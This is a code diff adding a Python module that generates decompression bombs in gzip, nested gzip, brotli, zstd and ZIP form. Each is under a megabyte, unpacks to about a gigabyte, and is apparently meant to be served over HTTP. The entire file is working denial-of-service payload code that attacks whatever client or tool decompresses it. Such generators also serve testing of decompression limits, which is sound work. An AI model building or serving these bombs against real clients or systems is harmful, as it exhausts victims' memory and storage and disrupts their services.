@@ -1,0 +1,72 @@
+"""How little can unpack to how much?
+
+Promises: each bomb is less than a megabyte and unpacks to BOMB_BYTES, more than 10^9, of spaces; each is what its
+format allows, to the last check sum; making one costs milliseconds.
+Knows nothing of who serves them.
+
+No bomb is made by packing a gigabyte. A block of spaces is packed once, up to a point where the format forgets what
+came before (deflate's full flush, brotli's flush; a zstd block that says "this byte, so many times" needs no packer at
+all), and repeated.
+"""
+
+import gzip as gzip_format
+import struct
+import zlib
+
+BLOCK_BYTES = 1 << 23
+BLOCKS = 120
+BOMB_BYTES = BLOCKS * BLOCK_BYTES
+PACKED_BYTES_MAX = 1_000_000
+
+_CRC = 0x8DD1BE70  # of BOMB_BYTES spaces
+_GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
+_ZSTD_MAGIC = 0xFD2FB528
+_ZSTD_BLOCK_BYTES = 1 << 17  # the format's own maximum
+_ZSTD_WINDOW = 7 << 3  # of that size
+_RLE = 1
+
+
+def _deflated(ending: bytes) -> tuple[bytes, int, int]:
+    """Spaces and an ending, packed; check sum and size of what it unpacks to, known because the content is."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = packer.compress(b" " * BLOCK_BYTES) + packer.flush(zlib.Z_FULL_FLUSH)
+    packed = block * BLOCKS + packer.compress(ending) + packer.flush()
+    return packed, zlib.crc32(ending, _CRC), BOMB_BYTES + len(ending)
+
+
+def gzip() -> bytes:
+    """One member."""
+    packed, crc, size = _deflated(b"")
+    return _GZIP_HEAD + packed + struct.pack("<II", crc, size)
+
+
+def gzip_in_gzip() -> bytes:
+    """The same, packed once more: `Content-Encoding: gzip, gzip`."""
+    return gzip_format.compress(gzip(), 9, mtime=0)
+
+
+def brotli() -> bytes:
+    from brotli import Compressor
+
+    packer = Compressor(quality=1)
+    first: bytes = packer.process(b" " * BLOCK_BYTES) + packer.flush()
+    again: bytes = packer.process(b" " * BLOCK_BYTES) + packer.flush()
+    ending: bytes = packer.finish()
+    return first + again * (BLOCKS - 1) + ending
+
+
+def zstd() -> bytes:
+    """RFC 8878 section 3.1.1, by hand: magic number, descriptor and window; then blocks of one byte each."""
+    count = BOMB_BYTES // _ZSTD_BLOCK_BYTES
+    block = struct.pack("<I", _ZSTD_BLOCK_BYTES << 3 | _RLE << 1)[:3] + b" "
+    last = struct.pack("<I", _ZSTD_BLOCK_BYTES << 3 | _RLE << 1 | 1)[:3] + b" "
+    return struct.pack("<IBB", _ZSTD_MAGIC, 0, _ZSTD_WINDOW) + block * (count - 1) + last
+
+
+def zipped(name: bytes, ending: bytes) -> bytes:
+    """A ZIP of one file, by hand because no library takes what is packed already (PKWARE APPNOTE 4.3)."""
+    packed, crc, size = _deflated(ending)
+    about = struct.pack("<HHHHHIIIHH", 20, 0, zlib.DEFLATED, 0, 0x21, crc, len(packed), size, len(name), 0)
+    member = b"PK\x03\x04" + about + name + packed
+    entry = b"PK\x01\x02" + struct.pack("<H", 20) + about + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
+    return member + entry + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(member), 0)
